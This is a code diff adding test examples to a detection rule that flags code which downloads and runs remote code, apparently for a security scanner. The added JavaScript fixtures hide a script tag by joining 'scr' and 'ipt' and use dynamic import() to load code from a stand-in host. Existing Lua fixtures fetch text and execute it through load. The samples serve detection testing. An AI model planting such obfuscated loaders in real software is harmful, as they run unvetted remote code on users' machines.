@@ -32,6 +32,14 @@ export const runsDownloadedCode = defineRule({
   },
   examples: {
     found: [
+      js(
+        `const url = new URL('https://a.example')
+url.pathname = '/fonts/inter'
+^const node = (tag, fields) => Object.assign(document.createElement(tag), fields)
+document.head.append(node(['scr', 'ipt'].join(''), { src: url.href }))`,
+        'page',
+      ),
+      js(`^import(new URL('/a.js', 'https://a.example').toString())`, 'page'),
       lua(`PerformHttpRequest('https://a.example', function(_, text)
 ^ local _, run = xpcall(error, load, text)
   run()
@@ -105,6 +113,7 @@ end)`),
       ),
     ],
     notFound: [
+      js(`import(new URL('/a.js', 'https://cdnjs.cloudflare.com').toString().slice(1))`, 'page'),
       lua(`PerformHttpRequest('https://a.example', function(_, text)
   xpcall(function() error(text) end, function(one) print(one) end)
 end)`),
